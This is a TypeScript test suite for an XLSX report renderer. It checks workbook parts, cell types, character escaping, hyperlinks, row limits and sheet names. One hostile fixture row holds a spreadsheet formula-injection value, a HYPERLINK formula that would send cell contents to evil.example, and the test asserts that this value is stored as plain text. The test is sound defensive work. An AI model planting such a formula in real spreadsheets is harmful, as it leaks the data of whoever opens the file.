import { renderers } from '../../../../src/reports/render/index.ts';
import { cellXml } from '../../../../src/reports/render/xlsx/cells.ts';
import { emptyCount, rowsSheet } from '../../../../src/reports/render/xlsx/rows-sheet.ts';
import { gathered } from './rendered.ts';
import { hostileRows, manyRows, sampleReport } from './sample-report.ts';
import { unzip } from './unzip.ts';

const { xlsx } = renderers;

async function workbook(report: ReturnType<typeof sampleReport>) {
  const files = unzip(await gathered(xlsx.render(report, { tempDir: '/nowhere', job: 'weekly' })));
  const text = (name: string) => files.get(name)?.toString() ?? '';
  return { files, text, rows: text('xl/worksheets/sheet1.xml'), about: text('xl/worksheets/sheet2.xml') };
}

const cellAt = (sheet: string, at: string) => new RegExp(`<c r="${at}"[^>]*>.*?</c>`, 's').exec(sheet)?.[0];

describe('XLSX', () => {
  it('is an archive of the parts that a workbook needs', async () => {
    const { files, text } = await workbook(sampleReport(hostileRows));
    const named = [...text('[Content_Types].xml').matchAll(/PartName="\/([^"]+)"/g)].map(([, name]) => name);
    expect(named.filter((name) => !files.has(name ?? ''))).toEqual([]);
    for (const [, target] of text('xl/_rels/workbook.xml.rels').matchAll(/Target="([^"]+)"/g)) {
      expect(files.has(`xl/${target}`)).toBe(true);
    }
  });

  it('types its cells: numbers, times, truths, and texts that are never formulas', async () => {
    const { rows } = await workbook(sampleReport(hostileRows));
    expect(rows).not.toContain('<f>');
    expect(cellAt(rows, 'A2')).toContain('t="inlineStr"');
    expect(cellAt(rows, 'A2')).toContain('=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1');
    expect(cellAt(rows, 'B2')).toMatch(/ s="2"><v>5<\/v>/);
    expect(cellAt(rows, 'D2')).toContain('t="b"><v>1</v>');
    expect(cellAt(rows, 'E2')).toContain('<v>46346.25</v>');
  });

  it('holds no sign that XML forbids, and no text that would be read as another', async () => {
    const { rows } = await workbook(sampleReport(hostileRows));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: those are what is looked for
    expect(rows).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    expect(rows).toContain('bell _x0007_ and _x005F_x0041_ and _xFFFE_');
    expect(rows).toContain('half of a pair \ufffd');
    expect(rows).not.toContain('<script');
  });

  it('keeps its header in sight, with widths and a filter over all rows', async () => {
    const { rows } = await workbook(sampleReport(hostileRows));
    expect(rows).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(rows).toContain(`<autoFilter ref="A1:F${hostileRows.length + 1}"/>`);
    expect(rows.match(/<col /g)).toHaveLength(6);
    expect(cellAt(rows, 'B1')).toContain('Size (bytes)');
    expect(cellAt(rows, 'E1')).toContain('Modified (UTC)');
  });

  it('links addresses of the web, and nothing else', async () => {
    const { rows, text } = await workbook(sampleReport(hostileRows));
    const targets = [...text('xl/worksheets/_rels/sheet1.xml.rels').matchAll(/Target="([^"]+)"/g)].map(
      ([, to]) => to,
    );
    expect(targets).toContain('https://contoso.example/a');
    expect(targets.every((target) => target?.startsWith('https://'))).toBe(true);
    expect(rows.match(/<hyperlink /g)).toHaveLength(targets.length);
  });

  it('tells beside the rows what they are, and opens there when drives are missing', async () => {
    const { about, text } = await workbook(sampleReport(hostileRows));
    for (const words of [
      'Largest files',
      '412 of 415 drives read; 3 denied.',
      'Legal &lt;hold&gt;',
      '<v>412006</v>',
      'Deleted files are not seen.',
      'weekly',
      'how many files',
      'where the file lies',
    ]) {
      expect(about).toContain(words);
    }
    expect(text('xl/workbook.xml')).toContain('activeTab="1"');
    const { coverage } = sampleReport([]);
    const whole = await workbook(sampleReport([], { coverage: { ...coverage, missing: [] } }));
    expect(whole.text('xl/workbook.xml')).toContain('activeTab="0"');
  });

  it('ends at the rows that Excel takes, and says how many it cut', async () => {
    const columns = [{ name: 'n', title: 'N', type: 'integer', meaning: 'a number' }] as const;
    const { coverage } = sampleReport([]);
    const report = sampleReport([], {
      columns,
      coverage: { ...coverage, missing: [] },
      rowCount: 1_100_000,
      async *rows() {
        for (let from = 0; from < 1_100_000; from += 50_000)
          yield Array.from({ length: 50_000 }, (_, n) => [from + n]);
      },
    });
    const { rows, about, text } = await workbook(report);
    expect(text('xl/workbook.xml')).toContain('activeTab="1"');
    expect(rows).toContain('<row r="1048576"><c r="A1048576" s="2"><v>1048574</v></c></row></sheetData>');
    expect(about).toContain('1,048,575 of 1,100,000 rows are here: a sheet takes no more. The other 51,425');
  }, 60_000);

  it('says when texts were longer than a cell takes', async () => {
    const { rows, about } = await workbook(sampleReport([['x'.repeat(40_000), 1, 1, true, null, null]]));
    expect(/<t [^>]*>(x+…)<\/t>/.exec(rows)?.[1]).toHaveLength(32_767);
    expect(about).toContain('1 text longer than a cell takes');
  });

  it('names its sheet within what Excel allows', async () => {
    const name = async (title: string) =>
      /<sheet name="([^"]*)"/.exec(
        (await workbook(sampleReport([], { title }))).text('xl/workbook.xml'),
      )?.[1];
    expect(await name("'A/B: [what]? is * a very long title'")).toMatch(/^[^[\]:*?/\\']{1,31}$/);
    expect(await name('about')).toBe('Rows');
    expect(await name('???')).toBe('Rows');
  });

  it('gives times that Excel can not count as texts', () => {
    expect(cellXml('A1', new Date('1850-01-01T00:00:00Z'), 4)).toContain('1850-01-01T00:00:00.000Z');
    expect(cellXml('A1', new Date('1900-03-01T00:00:00Z'), 4)).toContain('<v>61</v>');
  });

  it('lets go of the rows when its reader goes away', async () => {
    const report = manyRows(100_000);
    let over = false;
    const watched = {
      columns: report.columns,
      async *rows() {
        try {
          yield* report.rows();
        } finally {
          over = true;
        }
      },
    };
    for await (const piece of rowsSheet(watched, emptyCount(), true))
      if (piece.includes('<row r="2">')) break;
    expect(over).toBe(true);
  });
});
